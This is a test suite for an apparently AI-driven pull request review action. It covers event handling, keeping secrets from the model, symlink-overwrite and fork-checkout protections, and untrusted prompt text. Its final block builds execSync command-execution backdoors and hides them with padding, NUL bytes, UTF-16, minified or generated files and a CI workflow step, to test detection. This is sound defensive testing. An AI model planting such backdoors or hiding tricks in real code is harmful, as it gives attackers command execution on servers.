import { existsSync, mkdirSync, readFileSync, renameSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { temporaryFolder } from '../fakes/memory-repository.ts';
import { submit } from '../fakes/model-server/script.ts';
import { lacks } from '../fakes/platform.ts';
import { type CheckoutOptions, createWorld } from '../fakes/world/create-world.ts';
import type { EventName } from '../fakes/world/event.ts';
import type { WorldFiles } from '../fakes/world/git.ts';
import type { ActionRun } from './harness.ts';
import { placesOf, play, push, review, type Scenario, setStage, totalWorld, wrongLineFinding } from './review.ts';

const found = [submit([wrongLineFinding])];

it('a run is skipped, and the job passes, for a draft, a closed pull request, and on a push', async () => {
  const stage = await setStage({ world: totalWorld, model: [] });
  const { people } = stage.github;
  const runs: ActionRun[] = [];
  const skip = async (event: EventName = 'pull_request') =>
    runs.push(await play(stage, { world: totalWorld, model: [], event }));
  await skip('push');
  people.change({ draft: true });
  await skip();
  people.change({ draft: false, state: 'closed' });
  await skip();
  await skip('workflow_run');
  expect(runs.map(({ code, outputs }) => [code, outputs['outcome']])).toEqual(runs.map(() => [0, 'skipped']));
  expect([stage.model.attempts, stage.github.writes()]).toEqual([[], []]);
  expect([runs[1]?.log.includes('draft'), runs[2]?.log.includes('closed')]).toEqual([true, true]);
});

it.each<[string, EventName, Record<string, string>]>([
  ['the pull request behind a workflow run', 'workflow_run', {}],
  ['the number that a manual run names', 'workflow_dispatch', { 'pull-request': '7' }],
  ['the number that an input names on issues', 'issues', { 'pull-request': '7' }],
  ['its pull request, without a checkout on pull_request_target', 'pull_request_target', {}],
])('a run reviews %s', async (_, event, inputs) => {
  const world = { ...totalWorld, fork: event === 'workflow_run' };
  const { github } = await review({ world, model: found, event, inputs, checkout: null });
  expect(placesOf(github)).toEqual(['src/total.ts:4']);
});

it.each<[string, EventName, Record<string, string>, RegExp]>([
  ['names no pull request', 'issues', {}, /issues.*pull-request/s],
  ['names no pull request', 'workflow_dispatch', {}, /workflow_dispatch.*pull-request/s],
  ['names one that does not exist', 'workflow_dispatch', { 'pull-request': '99' }, /99/],
])('a run that %s on %s fails, and says the way out', async (_, event, inputs, words) => {
  const { run } = await review({ world: totalWorld, model: [], event, inputs });
  expect([run.code, run.outputs['outcome']]).toEqual([1, 'failed']);
  expect(run.annotations[0]?.message).toMatch(words);
});

it('a workflow run whose pull request GitHub does not list is not whole', async () => {
  const headers = { 'content-type': 'application/json' };
  const lists = { match: { method: 'GET', path: /\/pulls$/ }, times: 9, before: { status: 200, headers, body: '[]' } };
  const world = { ...totalWorld, fork: true, github: { faults: [lists] } };
  const inputs = { 'require-complete': 'true' };
  const { run } = await review({ world, model: [], event: 'workflow_run', inputs, checkout: null });
  expect([run.code, run.outputs['outcome']]).toEqual([1, 'skipped']);
});

describe('a pull request is reviewed', () => {
  it('that a coding agent opened as a draft, without a description, from a fork that is gone, and for its own change', async () => {
    const made = createWorld({
      ...totalWorld,
      fork: true,
      main: { 'src/elsewhere.ts': 'export const secretOfMain = 1;\n' },
      pullRequest: { author: 'copilot-swe-agent[bot]', body: '', draft: true },
    });
    const pull = { ...made.pull, head: { ...made.pull.head, repository: null } };
    const world = { ...made, pull, github: { ...made.github, pullRequests: [pull] } };
    const { github, model } = await review({ world, model: found, inputs: { 'review-drafts': 'true' } });
    expect(placesOf(github)).toEqual(['src/total.ts:4']);
    expect(model.requests.some(({ prompt }) => prompt.includes('secretOfMain'))).toBe(false);
  });

  it('with its title, text, commits and all that was said, as data', async () => {
    const { model } = await review({
      world: {
        base: totalWorld.base,
        head: [totalWorld.head, { 'README.md': '# Spoons\n' }],
        pullRequest: {
          title: 'Title of it',
          body: 'Text of it',
          conversation: [{ author: 'ada', body: 'Said below' }],
          threads: [{ path: 'src/total.ts', line: 4, comments: [{ author: 'ada', body: 'Said at the line' }] }],
        },
      },
      model: found,
    });
    const prompt = model.requests[0]?.messages.at(-1)?.text ?? '';
    for (const words of ['Title of it', 'Text of it', 'Change the files, step 2', 'Said below', 'Said at the line']) {
      expect(prompt).toContain(words);
    }
    expect(prompt.indexOf('Title of it')).toBeGreaterThan(prompt.indexOf('<untrusted-'));
  });
});

it('a pull request that changes a file which holds secrets keeps its diff from the model, and says so', async () => {
  const secrets = { '.env': 'DB_PASSWORD=correct-horse-battery\n', 'ops/keys.yml': 'key: plain-words-again\n' };
  const { model, run } = await review({
    world: {
      base: { 'src/a.ts': 'export const a = 1;\n', 'ops/keys.yml': 'key: none\n' },
      head: { 'src/a.ts': 'export const a = 2;\n', ...secrets },
    },
    model: [submit([])],
    inputs: { 'deny-paths': 'ops/**' },
  });
  const sent = JSON.stringify(model.requests);
  const words = ['export const a = 2', 'correct-horse', 'plain-words'];
  expect([words.map((word) => sent.includes(word)), run.outputs['unread']]).toEqual([[true, false, false], '2']);
  expect(run.summary).toContain('.env');
});

it.skipIf(lacks.symbolicLinks)(
  'a pull request that puts symbolic links where files are written overwrites nothing outside of the workspace, and the review goes on',
  async () => {
    // Beside the checkout and always of this name, which is in the hash of the commit.
    const outside = join(dirname(temporaryFolder()), 'outside');
    const victim = join(outside, 'victim');
    mkdirSync(outside, { recursive: true });
    writeFileSync(victim, 'precious\n');
    const { run, workspace } = await review({
      world: {
        base: { 'a.ts': '1\n' },
        head: { 'a.ts': '2\n', 'report.json': { symlink: '../outside/victim' }, logs: { symlink: '../outside' } },
      },
      model: [submit([])],
      inputs: { 'report-file': 'report.json', 'progress-file': 'logs/progress.ndjson' },
    });
    expect(readFileSync(join(workspace ?? '', 'report.json'), 'utf8')).toBe('precious\n');
    expect([readFileSync(victim, 'utf8'), existsSync(join(outside, 'progress.ndjson'))]).toEqual(['precious\n', false]);
    expect([run.outputs['outcome'], run.outputs['report-file']]).toEqual(['clean', '']);
    expect(run.log).toContain('must not choose what is overwritten');
  },
);

describe('a workflow that has secrets', () => {
  const world = createWorld({ ...totalWorld, fork: true });
  const scenario = (event: EventName, checkout: CheckoutOptions): Scenario => {
    const inputs = event === 'pull_request_target' || event === 'workflow_run' ? {} : { 'pull-request': '7' };
    return { world, event, checkout, inputs, model: [submit([])] };
  };

  it.each([
    ['pull_request_target', { ref: 'refs/pull/7/merge' }],
    ['workflow_run', { ref: 'refs/pull/7/head', depth: 0 }],
    ['workflow_dispatch', { ref: 'refs/pull/7/head' }],
  ] as const)('and checks out a fork is stopped on %s with %j, before the model is asked', async (event, checkout) => {
    const { model, run } = await review(scenario(event, checkout));
    expect([run.code, run.outputs['outcome'], model.requests.length]).toEqual([1, 'failed', 0]);
    expect(run.annotations[0]?.message).toContain('Remove the checkout step');
  });

  it('is stopped as well when the head has moved since, and the fork lies in a folder of the workspace', async () => {
    const target = scenario('pull_request_target', { ref: 'refs/pull/7/head' });
    const stage = await setStage({ ...target, world: createWorld({ ...totalWorld, fork: true }) });
    const moved = await push(stage, { files: { 'src/more.ts': 'more();\n' } });
    const workspace = temporaryFolder();
    mkdirSync(join(workspace, 'work'));
    renameSync(stage.workspace ?? '', join(workspace, 'work', 'pull'));
    const run = await play({ ...moved, workspace }, { ...target, start: 'bundle' });
    expect([run.outputs['outcome'], stage.model.requests.length]).toEqual(['failed', 0]);
  });

  it('is reviewed when it checks out its own branch only', async () => {
    const { run } = await review(scenario('pull_request_target', { ref: 'refs/heads/main' }));
    expect(run.outputs['outcome']).toBe('clean');
  });
});

const rest = 'export const one = 1;\n';

describe('a backdoor in a change that may be approved', () => {
  const comment = `// ${'x'.repeat(20_000)}\n`;
  const hidden = (number: number) => `app.get('/${number}', (req) => execSync(req.query.cmd${number}));\n`;
  const workflow = (number: number) => `on: push\njobs:\n  x:\n    steps:\n      - run: node -e "${hidden(number)}"\n`;
  const base = { 'src/old.js': rest, 'src/.env.js': hidden(99), 'docs/ci.yml': workflow(10) };
  const shown: WorldFiles = {
    'src/long.js': `${comment}${hidden(0)}`,
    'src/old.js': `${rest}${comment}${hidden(1)}`,
    'src/nul.js': `// \0\n${hidden(2)}`,
    'src/utf16.js': Buffer.from(`\ufeff${hidden(3)}`, 'utf16le'),
    'vendor/a.js': hidden(4),
    'src/x.min.js': hidden(5),
    'src/x_pb2.py': hidden(6),
    'src/column.js': `/*${' '.repeat(3_000)}*/${hidden(7)}`,
    'src/marked.js': `// @generated\n${hidden(8)}`,
    'yarn.lock': hidden(9),
    'docs/ci.yml': null,
    '.github/workflows/ci.yml': workflow(10),
  };

  it('is shown to the model, whatever its file looks like', async () => {
    const { model, run } = await review({ world: { base, head: shown }, model: () => submit([]) });
    const told = JSON.stringify(model.requests.map(({ messages }) => messages));
    const numbers = Array.from({ length: 11 }, (_, number) => number);
    expect(numbers.filter((number) => !told.includes(`req.query.cmd${number})`))).toEqual([]);
    expect([run.outputs['outcome'], run.outputs['unread']]).toEqual(['clean', '0']);
  });

  it('that the model may not or cannot read is named, and never approved, after the next push either', async () => {
    const head = {
      'src/x.key': hidden(0),
      '.env.js': hidden(1),
      'src/.env.js': null,
      'src/a.js': hidden(99),
      'src/line.js': `/*${'x'.repeat(3_000_000)}*/${hidden(2)}`,
    };
    const unread = ['src/x.key', '.env.js', 'src/a.js', 'src/line.js'];
    const world = { base: { ...base, 'src/a.ts': rest }, head, github: { viewer: 'postil-app[bot]' } };
    const scenario = { world, model: () => submit([]), inputs: { 'review-event': 'approve' } };
    const stage = await setStage(scenario);
    const first = await play(stage, scenario);
    const second = await play(await push(stage, { files: { 'src/a.ts': `${rest}${rest}` } }), scenario);
    const comment = { outputs: first.outputs, summary: stage.github.conversation()[0]?.body ?? '' };
    for (const { outputs, summary } of [first, second, comment]) {
      expect(outputs).toMatchObject({ outcome: 'partial', unread: '4' });
      expect(unread.filter((path) => !summary.includes(path))).toEqual([]);
    }
    expect(stage.github.reviews().filter(({ state }) => state === 'APPROVED')).toEqual([]);
  });
});
